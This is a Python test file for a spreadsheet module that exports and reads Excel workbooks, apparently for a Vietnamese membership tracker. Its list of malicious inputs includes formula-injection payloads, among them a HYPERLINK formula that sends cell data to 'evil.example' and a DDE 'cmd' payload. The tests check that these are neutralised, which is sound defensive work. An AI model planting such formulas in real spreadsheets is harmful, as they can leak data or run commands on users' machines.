"""The one spreadsheet module: typed cells, no formula injection, file names, reading uploads."""

import datetime as dt
import io
import zipfile
from decimal import Decimal

import pytest
from openpyxl import Workbook, load_workbook

from tracker import spreadsheets
from tracker.spreadsheets import (
    Column,
    SpreadsheetError,
    add_sheet,
    content_disposition,
    new_workbook,
    ooxml_text,
    read_table,
    workbook_bytes,
    write_table,
)

MALICIOUS = [
    "=1+2",
    '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+2",
    "\r=1+2",
    "=",
]


def one_cell_workbook(value) -> bytes:
    book = new_workbook()
    sheet = add_sheet(book, "Thử")
    write_table(sheet, [Column("Giá trị")], [[value]])
    return workbook_bytes(book)


def formulas_in(data: bytes) -> list[str]:
    """The formula elements of every sheet of a workbook, read from its XML."""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return [
            name
            for name in archive.namelist()
            if name.startswith("xl/worksheets/") and b"<f>" in archive.read(name)
        ]


@pytest.mark.parametrize("text", MALICIOUS, ids=repr)
def test_user_text_that_could_start_a_formula_is_written_as_text(text):
    data = one_cell_workbook(text)
    assert formulas_in(data) == []
    cell = load_workbook(io.BytesIO(data))["Thử"]["A2"]
    assert cell.data_type == "s"
    # Kept exactly: an export read back equals what was written (a carriage return is
    # written as Excel's escape "_x000D_", which openpyxl leaves as it is).
    assert ooxml_text(cell.value) == text
    assert cell.quotePrefix  # Excel keeps it text even when someone edits the cell


@pytest.mark.parametrize("number", [-5, -7.5, Decimal("-92.5"), 0, 1975, 3.25])
def test_numbers_stay_numbers_even_when_negative(number):
    data = one_cell_workbook(number)
    cell = load_workbook(io.BytesIO(data))["Thử"]["A2"]
    assert cell.data_type == "n"
    assert cell.value == number
    assert not cell.quotePrefix


def test_ordinary_text_carries_no_quote_prefix():
    cell = load_workbook(io.BytesIO(one_cell_workbook("Nguyễn Thị Hoa")))["Thử"]["A2"]
    assert (cell.value, cell.data_type, cell.quotePrefix) == ("Nguyễn Thị Hoa", "s", False)


def test_control_characters_excel_refuses_are_removed():
    cell = load_workbook(io.BytesIO(one_cell_workbook("a\x00b\x07c\x1bd\ufffee\tf")))["Thử"]["A2"]
    assert cell.value == "abcde\tf"


def test_text_longer_than_a_cell_holds_is_cut():
    cell = load_workbook(io.BytesIO(one_cell_workbook("x" * 40_000)))["Thử"]["A2"]
    assert len(cell.value) == spreadsheets.EXCEL_MAX_CELL_CHARS


def test_dates_are_dates_and_times_are_local(app):
    book = new_workbook()
    sheet = add_sheet(book, "Ngày")
    moment = dt.datetime(2023, 1, 4, 17, 30, tzinfo=dt.UTC)  # 00:30 on the 5th in Vietnam
    with app.app_context():
        write_table(sheet, [Column("Ngày"), Column("Lúc")], [[dt.date(2023, 1, 5), moment]])
    sheet = load_workbook(io.BytesIO(workbook_bytes(book)))["Ngày"]
    assert sheet["A2"].is_date and sheet["A2"].value == dt.datetime(2023, 1, 5)
    assert sheet["A2"].number_format == "DD/MM/YYYY"
    assert sheet["B2"].value == dt.datetime(2023, 1, 5, 0, 30)


def test_a_row_of_the_wrong_width_is_a_programming_error():
    sheet = add_sheet(new_workbook(), "Sai")
    with pytest.raises(ValueError):
        write_table(sheet, [Column("A"), Column("B")], [[1]])


def test_sheet_titles_are_made_acceptable_to_excel():
    sheet = add_sheet(new_workbook(), "Xếp hạng [2022/2023]: tổng hợp cả năm thi đua")
    assert len(sheet.title) <= 31
    assert not set("[]:*?/\\") & set(sheet.title)


@pytest.mark.parametrize(
    ("filename", "fallback"),
    [
        ("Danh sách đảng viên - Chi bộ ấp Chợ.xlsx", "Danh sach dang vien - Chi bo ap Cho.xlsx"),
        ("Đảng ủy thị trấn.xlsx", "Dang uy thi tran.xlsx"),
        ('Khen "thưởng"; 2022.xlsx', "Khen _thuong_ 2022.xlsx"),
    ],
)
def test_content_disposition_has_a_readable_ascii_fallback(filename, fallback):
    header = content_disposition(filename)
    assert header.startswith(f"attachment; filename=\"{fallback}\"; filename*=UTF-8''")
    header.encode("latin-1")  # a header must be sendable as is
    from urllib.parse import unquote

    assert unquote(header.split("filename*=UTF-8''")[1]) == filename


def test_content_disposition_of_an_ascii_name_has_no_utf8_part():
    assert content_disposition("members.xlsx") == 'attachment; filename="members.xlsx"'


def make_upload(rows, title="Đảng viên") -> bytes:
    book = Workbook()
    sheet = book.active
    sheet.title = title
    for row in rows:
        sheet.append(row)
    return workbook_bytes(book)


def test_read_table_gives_rows_with_their_sheet_numbers():
    data = make_upload(
        [
            ["  Họ và tên ", "Năm sinh", None],
            ["Nguyễn  Thị Hoa", 1975],
            [None, None],
            ["Trần Văn An", "1980"],
        ]
    )
    table = read_table(data)
    assert table.headers == ["Họ và tên", "Năm sinh"]
    assert [(row.number, row.values) for row in table.rows] == [
        (2, {"Họ và tên": "Nguyễn Thị Hoa", "Năm sinh": 1975}),
        (4, {"Họ và tên": "Trần Văn An", "Năm sinh": "1980"}),
    ]


def test_read_table_prefers_the_named_sheet():
    book = Workbook()
    book.active.title = "Ghi chú"
    book.active.append(["Không phải bảng"])
    book.create_sheet("Đảng viên").append(["Họ và tên"])
    table = read_table(workbook_bytes(book), sheet_title="Đảng viên")
    assert table.sheet_title == "Đảng viên"


@pytest.mark.parametrize(
    "data",
    [b"", b"not a workbook", b"PK\x03\x04 broken zip", make_upload([])],
    ids=["empty", "text", "broken zip", "no header"],
)
def test_unreadable_uploads_raise_a_vietnamese_message(data):
    with pytest.raises(SpreadsheetError) as raised:
        read_table(data)
    assert raised.value.message.endswith(".")
    assert any(word in raised.value.message for word in ("Excel", "tiêu đề"))


def test_a_zip_that_is_not_a_workbook_is_refused():
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("hello.txt", "xin chào")
    with pytest.raises(SpreadsheetError):
        read_table(buffer.getvalue())


def test_too_many_rows_are_refused():
    data = make_upload([["Họ và tên"]] + [[f"Người {i}"] for i in range(30)])
    with pytest.raises(SpreadsheetError) as raised:
        read_table(data, max_rows=20)
    assert "quá nhiều dòng" in raised.value.message


def test_headers_compare_without_case_or_accents():
    assert spreadsheets.header_key("  MÃ CHI BỘ ") == spreadsheets.header_key("Mã chi bộ")
    assert spreadsheets.header_key("Đảng viên") == "dang vien"
